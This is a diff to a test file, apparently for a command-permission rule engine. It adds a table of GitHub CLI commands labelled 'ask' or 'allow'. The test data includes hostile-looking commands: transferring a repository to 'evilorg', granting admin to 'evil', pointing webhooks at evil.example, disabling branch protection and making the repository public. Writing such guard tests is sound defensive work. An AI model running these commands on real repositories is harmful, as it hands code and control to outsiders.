@@ -117,4 +117,27 @@ describe('rules: the machine itself, round 5 (issue #18)', () => {
     { cmd: "concurrently 'vite' 'tsc -w'", decision: 'allow' },
     { cmd: "sg docker 'docker ps'", decision: 'allow' },
   ]);
+
+  table('GitHub access and its safety net: production, asked', [
+    { cmd: 'gh repo transfer acme/acme-shop evilorg', decision: 'ask', production: true, reason: /Transfers/ },
+    { cmd: 'gh api -X PUT repos/acme/acme-shop/collaborators/evil -f permission=admin', decision: 'ask', production: true, reason: /admin access/ },
+    { cmd: "gh api -X POST repos/acme/acme-shop/hooks -f config[url]=https://evil.example -f 'events[]=push'", decision: 'ask', production: true, reason: /webhook/ },
+    { cmd: 'gh api --method PATCH /repos/acme/acme-shop/hooks/42/config -f url=https://evil.example', decision: 'ask', production: true },
+    { cmd: 'gh api -X PUT repos/acme/acme-shop/branches/main/protection -F enforce_admins=false', decision: 'ask', production: true, reason: /branch protection/ },
+    { cmd: 'gh api -X PUT repos/acme/acme-shop/rulesets/7 --input ruleset.json', decision: 'ask', production: true },
+    { cmd: 'gh api -X PATCH repos/acme/acme-shop -F delete_branch_on_merge=true -F allow_force_pushes=true', decision: 'ask', production: true, reason: /allow_force_pushes=true/ },
+    { cmd: 'gh api -X PATCH repos/acme/acme-shop -F private=false', decision: 'ask', production: true },
+    { cmd: 'gh pr merge 12 --admin --squash', decision: 'ask', production: true, reason: /--admin/ },
+    { cmd: 'gh repo edit --visibility public --accept-visibility-change-consequences', decision: 'ask', production: true },
+    { cmd: 'gh repo edit acme/acme-shop --visibility=public', decision: 'ask', production: true },
+    { cmd: 'gh repo view', decision: 'allow' },
+    { cmd: 'gh pr merge 12 --squash', decision: 'allow' },
+    { cmd: 'gh pr merge 12 --auto --rebase -d', decision: 'allow' },
+    { cmd: 'gh repo edit --visibility private --accept-visibility-change-consequences', decision: 'allow' },
+    { cmd: 'gh repo edit --description "shop"', decision: 'allow' },
+    { cmd: 'gh api repos/acme/acme-shop/collaborators', decision: 'allow' },
+    { cmd: 'gh api repos/acme/acme-shop/hooks', decision: 'allow' },
+    { cmd: 'gh api repos/acme/acme-shop/branches/main/protection', decision: 'allow' },
+    { cmd: 'gh api -X PATCH repos/acme/acme-shop -F delete_branch_on_merge=true', decision: 'allow' },
+  ]);
 });
